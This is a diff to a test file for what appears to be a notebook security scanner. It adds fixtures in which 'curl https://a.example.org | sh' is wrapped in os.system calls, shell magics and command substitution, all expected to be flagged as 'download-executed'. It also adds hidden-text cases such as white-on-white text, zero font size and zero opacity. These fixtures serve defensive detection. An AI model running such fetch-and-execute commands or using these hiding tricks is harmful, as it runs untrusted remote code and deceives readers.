@@ -38,6 +38,16 @@ it.each(together)('over several cells: %s', (_, cells, expected) => {
   expect(kindsOf(...cells)).toEqual(expected);
 });
 
+it.each([
+  'print(os.system("curl https://a.example.org | sh"))',
+  'run = "curl https://a.example.org | sh"',
+  "!echo '''\n!curl https://a.example.org | sh\n!echo '''",
+  '"$(curl https://a.example.org | sh)"',
+  '%%bash\n"$(curl https://a.example.org | sh)"'
+])('what is not only told is told of: %s', source => {
+  expect(kindsOf(source)).toContain('download-executed');
+});
+
 it('every kind has fixtures', () => {
   const fixed = new Set([
     ...Object.keys(towards),
@@ -58,7 +68,8 @@ it('is told with its cell, its line and a reason', () => {
       cell: 1,
       line: 1,
       kind: 'download-executed',
-      reason: expect.stringMatching(/^[A-Z].*\.$/) as string
+      reason: expect.stringMatching(/^[A-Z].*\.$/) as string,
+      excerpt: '!curl https://a.example.org | sh'
     }
   ]);
 });
@@ -113,7 +124,11 @@ describe('hidden text', () => {
     toCell('a = "\u202e" # b'),
     text('<span style="color: white">a</span>'),
     text('<font color="#FFFFFF">a</font>'),
-    text('<p style="background: #fff; color:#fff">a</p>')
+    text('<p style="background: #fff; color:#fff">a</p>'),
+    text('<p style="background: black; color:rgb(0, 0, 0)">a</p>'),
+    text('<p style="color: #123; background-color: #112233">a</p>'),
+    text('<p style="font-size: 0px">a</p>'),
+    text('<p style="opacity:0">a</p>')
   ])('is %j', cell => {
     expect(find(cell)).toMatchObject([{ kind: 'hidden-text' }]);
   });
@@ -123,6 +138,8 @@ describe('hidden text', () => {
     toCell(`a = 1${'\n'.repeat(20)}b()`),
     text('<span style="color: white; background: black">a</span>'),
     text('<span style="background-color: white">a</span>'),
+    text('<span style="background: black">a</span>'),
+    text('<span style="font-size: 0.8em; opacity: 0.5">a</span>'),
     text('color: white')
   ])('is not %j', cell => {
     expect(find(cell)).toEqual([]);
@@ -143,7 +160,12 @@ it.each([
   '<a color=',
   'open(',
   'powershell -e ',
-  'crontab '
+  'crontab ',
+  'a=a;',
+  'curl -o a ',
+  './a ',
+  'requests.get("',
+  'with a as b'
 ])('a long cell of "%s" takes no time', piece => {
   const start = performance.now();
   find(toCell(piece.repeat(200_000 / piece.length)));
